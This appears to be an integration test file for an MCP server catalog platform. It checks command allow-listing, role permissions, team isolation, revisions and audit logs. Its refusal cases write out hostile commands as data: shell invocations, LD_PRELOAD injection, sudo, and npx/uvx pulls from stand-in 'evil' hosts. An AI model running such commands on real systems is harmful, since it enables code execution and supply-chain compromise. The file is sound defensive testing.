// Team-private catalog entries against the real platform: which commands may be stored (and, again, started),
// who may create, change or delete an entry, its revisions, and that no team sees or touches another's entry.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AppError, type Role } from '@manifold/core';
import { addMember, createUserWithTeam, inTeam } from '@manifold/db';
import { fixtureStdioCommand, rejectionOf } from '@manifold/testing';
import type { ActingContext } from '@manifold/services';
import { startAdHocRun, waitForRunEnd } from './run-helpers';
import { startPlatform, type Platform } from './platform';

let platform: Platform;
let owner: ActingContext;
let other: ActingContext;
const members = {} as Record<Role, ActingContext>;

const refusal = (promise: Promise<unknown>) => rejectionOf(promise, AppError);
const stdioEntry = (slug: string, command: unknown) => ({ slug, name: slug, transport: 'stdio', command });
const auditOf = (teamId: string, action: string) =>
  inTeam(platform.db, teamId, (tx) => tx.auditLog.findMany({ where: { teamId, action }, orderBy: { id: 'asc' } }));

beforeAll(async () => {
  // A database edit of a command must be seen by the next call, not after the installation cache's TTL.
  platform = await startPlatform({ installationCacheMs: 0 });
  owner = await platform.newTeam('private');
  other = await platform.newTeam('other');
  for (const role of ['admin', 'member', 'viewer'] as const) {
    const { userId } = await createUserWithTeam(platform.db, { email: `${role}-${owner.teamId}@example.test`, passwordHash: 'unused' });
    await inTeam(platform.db, owner.teamId, (tx) => addMember(tx, owner.teamId, userId, role));
    members[role] = { teamId: owner.teamId, actor: { type: 'user', id: userId }, role };
  }
  members.owner = owner;
});

afterAll(async () => {
  await platform?.stop();
});

describe('which commands a team entry may run', () => {
  it.each([
    [['npx', '-y', 'pkg@latest'], 'command[2]', /exact version/],
    [['npx', 'pkg@1.2.3'], 'command[1]', /exactly "-y"/],
    [['npx', '-y', '--registry', 'http://evil', 'pkg@1.0.0'], 'command[2]', /registry or cache/],
    [['uvx', '--from', 'git+https://evil.example/x', 'x'], 'command[1]', /--from, --with/],
    [['/bin/sh', '-c', 'id'], 'command[0]', /not in the operator's MANIFOLD_ALLOWED_COMMANDS/],
    [['bash', '-c', 'id >&2'], 'command[0]', /shells, interpreters/],
    [['node', '-e', 'process.exit(0)'], 'command[0]', /shells, interpreters/],
    [['env', 'LD_PRELOAD=/x.so', 'npx', '-y', 'pkg@1.0.0'], 'command[0]', /shells, interpreters, env/],
    [['sudo', 'id'], 'command[0]', /sudo/],
    [['../../bin/node'], 'command[0]', /relative paths/],
  ])('refuses %j at %s and says what is allowed', async (command, path, why) => {
    const error = await refusal(platform.services.catalog.create(owner, stdioEntry('probe', command)));
    expect(error.code).toBe('validation_failed');
    expect(error.options.fieldErrors).toEqual([{ path, message: expect.stringMatching(why) }]);
    expect(error.message).toContain(path);
  });

  it('refuses the same commands in an imported server.json, addressed inside _meta', async () => {
    const error = await refusal(
      platform.services.catalog.importServerJson(owner, {
        name: 'io.example/probe',
        description: 'probe',
        version: '1.0.0',
        packages: [{ registryType: 'npm', identifier: 'probe' }],
        _meta: { 'io.manifold/catalog': { slug: 'probe', command: ['/bin/sh', '-c', 'id'] } },
      }),
    );
    expect(error.options.fieldErrors).toEqual([{ path: '_meta.io.manifold/catalog.command[0]', message: expect.any(String) }]);
    // A package without a version would be derived to `npx -y probe@…` with the entry's version: still pinned.
    const unpinned = await refusal(
      platform.services.catalog.importServerJson(owner, {
        name: 'io.example/probe',
        description: 'probe',
        version: 'latest',
        packages: [{ registryType: 'npm', identifier: 'probe' }],
      }),
    );
    expect(unpinned.options.fieldErrors).toEqual([
      { path: 'packages[0]', message: expect.stringMatching(/"probe@latest" is not an npm package with an exact version/) },
    ]);
  });

  it('stores pinned runners and the operator-listed fixture program, and answers with the exact argv', async () => {
    const npx = await platform.services.catalog.create(
      owner,
      stdioEntry('pinned-npx', ['npx', '-y', '@scope/server@1.2.3', '--read-only']),
    );
    expect(npx).toMatchObject({ command: ['npx', '-y', '@scope/server@1.2.3', '--read-only'], url: null, revision: 1 });
    const uvx = await platform.services.catalog.create(owner, stdioEntry('pinned-uvx', ['uvx', 'mcp-server-time==2025.1.1']));
    expect(uvx.command).toEqual(['uvx', 'mcp-server-time==2025.1.1']);
    const fixture = await platform.services.catalog.create(owner, stdioEntry('fixture', fixtureStdioCommand()));
    expect(fixture.command).toEqual(fixtureStdioCommand());
    const [created] = await auditOf(owner.teamId, 'server.created');
    expect(created?.metadata).toMatchObject({
      slug: 'pinned-npx',
      transport: 'stdio',
      command: ['npx', '-y', '@scope/server@1.2.3', '--read-only'],
    });
  });

  it('re-checks at launch: a command edited in the database is not started, and the run says why', async () => {
    await platform.services.installations.install(owner, { server: 'fixture', name: 'fixture' });
    await platform.services.installations.listTools(owner, 'fixture');
    const ok = await waitForRunEnd(
      platform.services,
      owner,
      await startAdHocRun(platform.services, owner, {
        steps: [{ id: 'e', type: 'tool', server: 'fixture', tool: 'echo', args: { message: 'hi' } }],
      }),
    );
    expect(ok.status).toBe('succeeded');
    await inTeam(platform.db, owner.teamId, (tx) =>
      tx.mcpServer.updateMany({ where: { teamId: owner.teamId, slug: 'fixture' }, data: { command: ['/bin/sh', '-c', 'id >&2'] } }),
    );
    const run = await waitForRunEnd(
      platform.services,
      owner,
      await startAdHocRun(platform.services, owner, {
        steps: [{ id: 'e', type: 'tool', server: 'fixture', tool: 'echo', args: { message: 'hi' } }],
      }),
    );
    expect(run.status).toBe('failed');
    expect(run.error).toMatchObject({
      stepId: 'e',
      errorClass: 'config_error',
      message: expect.stringMatching(/"fixture" was not started: its command\[0\] is not allowed/),
    });
    expect(JSON.stringify(run)).not.toContain('uid=');
    // Put it back for the suites below.
    await inTeam(platform.db, owner.teamId, (tx) =>
      tx.mcpServer.updateMany({ where: { teamId: owner.teamId, slug: 'fixture' }, data: { command: fixtureStdioCommand() } }),
    );
  });
});

describe('who may create, change and delete a team entry', () => {
  it('members and viewers are refused (403); admins and owners may', async () => {
    for (const role of ['member', 'viewer'] as const) {
      const ctx = members[role];
      const error = await refusal(platform.services.catalog.create(ctx, stdioEntry(`by-${role}`, ['npx', '-y', 'pkg@1.0.0'])));
      expect(error.code).toBe('forbidden');
      expect(error.message).toMatch(/does not allow "servers:manage"/);
      expect((await refusal(platform.services.catalog.update(ctx, 'pinned-npx', { command: ['npx', '-y', 'pkg@2.0.0'] }))).code).toBe(
        'forbidden',
      );
      expect((await refusal(platform.services.catalog.remove(ctx, 'pinned-npx', {}))).code).toBe('forbidden');
      expect(
        (
          await refusal(
            platform.services.catalog.create(ctx, { slug: `h-${role}`, name: 'h', transport: 'http', url: 'https://a.example/mcp' }),
          )
        ).code,
      ).toBe('forbidden');
    }
    await expect(
      platform.services.catalog.create(members.admin, stdioEntry('by-admin', ['npx', '-y', 'pkg@1.0.0'])),
    ).resolves.toMatchObject({
      slug: 'by-admin',
    });
  });

  it('API keys need the servers:manage scope, which only owners and admins can mint', async () => {
    const writeOnly: ActingContext = {
      teamId: owner.teamId,
      actor: { type: 'apiKey', id: 'k1' },
      scopes: ['servers:read', 'servers:write'],
    };
    const error = await refusal(platform.services.catalog.create(writeOnly, stdioEntry('by-key', ['npx', '-y', 'pkg@1.0.0'])));
    expect(error.message).toMatch(/lacks the "servers:manage" scope/);
    const minted = await platform.services.apiKeys.create(members.admin, { name: 'ci', scopes: ['servers:manage', 'servers:read'] });
    expect(minted.scopes).toContain('servers:manage');
    // A member cannot mint keys at all; a key without servers:manage cannot grant it.
    expect((await refusal(platform.services.apiKeys.create(members.member, { name: 'x', scopes: ['servers:manage'] }))).code).toBe(
      'forbidden',
    );
    const keyMaker: ActingContext = { teamId: owner.teamId, actor: { type: 'apiKey', id: 'k2' }, scopes: ['api_keys:write'] };
    expect((await refusal(platform.services.apiKeys.create(keyMaker, { name: 'x', scopes: ['servers:manage'] }))).message).toMatch(
      /cannot grant the "servers:manage" scope/,
    );
  });

  it('another team neither sees nor changes nor deletes the entry; a public entry is the operator’s', async () => {
    expect((await refusal(platform.services.catalog.get(other, 'pinned-npx'))).code).toBe('not_found');
    expect((await refusal(platform.services.catalog.remove(other, 'pinned-npx', { force: 'true' }))).code).toBe('not_found');
    expect((await refusal(platform.services.catalog.update(other, 'pinned-npx', { command: ['npx', '-y', 'evil@6.6.6'] }))).code).toBe(
      'not_found',
    );
    expect((await refusal(platform.services.catalog.versions(other, 'pinned-npx'))).code).toBe('not_found');
    expect((await platform.services.catalog.get(owner, 'pinned-npx')).item.command).toEqual([
      'npx',
      '-y',
      '@scope/server@1.2.3',
      '--read-only',
    ]);
    const publicEntry = await refusal(platform.services.catalog.remove(owner, 'server-memory', {}));
    expect(publicEntry.code).toBe('forbidden');
    expect(publicEntry.message).toMatch(/public catalog entry: only the operator/);
    expect((await refusal(platform.services.catalog.update(owner, 'server-memory', { command: ['npx', '-y', 'x@1.0.0'] }))).code).toBe(
      'forbidden',
    );
    expect((await platform.services.catalog.list(other, { q: 'server-memory' })).items).toHaveLength(1);
  });
});

describe('revisions', () => {
  it('a change of command is a new revision its installations run; history lists each argv and who set it', async () => {
    await platform.services.installations.install(owner, { server: 'pinned-uvx', name: 'clock' });
    const unchanged = await platform.services.catalog.update(owner, 'pinned-uvx', { command: ['uvx', 'mcp-server-time==2025.1.1'] });
    expect(unchanged).toMatchObject({ changed: false, revision: 1 });
    const refused = await refusal(platform.services.catalog.update(owner, 'pinned-uvx', { command: ['uvx', 'mcp-server-time'] }));
    expect(refused.options.fieldErrors?.[0]?.path).toBe('command[1]');
    const wrongKind = await refusal(platform.services.catalog.update(owner, 'pinned-uvx', { url: 'https://a.example/mcp' }));
    expect(wrongKind.options.fieldErrors?.[0]?.path).toBe('url');

    const changed = await platform.services.catalog.update(members.admin, 'pinned-uvx', {
      command: ['uvx', 'mcp-server-time==2025.2.0', '--local-timezone', 'UTC'],
      version: '2025.2.0',
    });
    expect(changed).toMatchObject({
      changed: true,
      revision: 2,
      installations: ['clock'],
      command: ['uvx', 'mcp-server-time==2025.2.0', '--local-timezone', 'UTC'],
    });
    const { items } = await platform.services.catalog.versions(owner, 'pinned-uvx');
    expect(items.map((v) => [v.revision, v.version, v.command, v.actorId])).toEqual([
      [2, '2025.2.0', ['uvx', 'mcp-server-time==2025.2.0', '--local-timezone', 'UTC'], members.admin.actor.id],
      [1, '0.0.0', ['uvx', 'mcp-server-time==2025.1.1'], owner.actor.id],
    ]);
    const installation = await inTeam(platform.db, owner.teamId, (tx) =>
      tx.serverInstallation.findFirstOrThrow({ where: { name: 'clock' } }),
    );
    expect(installation.serverRevision).toBe(2);
    const [audit] = await auditOf(owner.teamId, 'server.updated');
    expect(audit?.metadata).toMatchObject({
      revision: 2,
      previous: { command: ['uvx', 'mcp-server-time==2025.1.1'] },
      command: ['uvx', 'mcp-server-time==2025.2.0', '--local-timezone', 'UTC'],
      installations: ['clock'],
    });
    // The stored server.json follows the change, so an export runs the same argv.
    expect((await platform.services.catalog.exportServerJson(owner, 'pinned-uvx'))._meta).toMatchObject({
      'io.manifold/catalog': { command: ['uvx', 'mcp-server-time==2025.2.0', '--local-timezone', 'UTC'] },
    });
  });
});

describe('deleting a team entry', () => {
  it('is a conflict while installed, unless forced, which removes the installations too; audited', async () => {
    const conflict = await refusal(platform.services.catalog.remove(owner, 'pinned-uvx', {}));
    expect(conflict.code).toBe('conflict');
    expect(conflict.message).toMatch(/still installed as "clock".*\?force=true/);
    expect((await refusal(platform.services.catalog.remove(owner, 'pinned-uvx', { force: 'yes' }))).options.fieldErrors?.[0]?.path).toBe(
      'force',
    );
    expect(await platform.services.catalog.remove(owner, 'pinned-uvx', { force: 'true' })).toEqual({
      slug: 'pinned-uvx',
      deleted: true,
      removedInstallations: ['clock'],
    });
    expect((await refusal(platform.services.installations.get(owner, 'clock'))).code).toBe('not_found');
    expect((await refusal(platform.services.catalog.get(owner, 'pinned-uvx'))).code).toBe('not_found');
    expect(await platform.services.catalog.remove(members.admin, 'pinned-npx', {})).toMatchObject({
      deleted: true,
      removedInstallations: [],
    });
    const deleted = await auditOf(owner.teamId, 'server.deleted');
    expect(deleted.map((d) => d.metadata)).toEqual([
      expect.objectContaining({
        slug: 'pinned-uvx',
        removedInstallations: ['clock'],
        command: ['uvx', 'mcp-server-time==2025.2.0', '--local-timezone', 'UTC'],
      }),
      expect.objectContaining({ slug: 'pinned-npx', removedInstallations: [] }),
    ]);
    // The slug is free again.
    await expect(platform.services.catalog.create(owner, stdioEntry('pinned-npx', ['npx', '-y', 'pkg@1.0.0']))).resolves.toMatchObject({
      revision: 1,
    });
  });
});
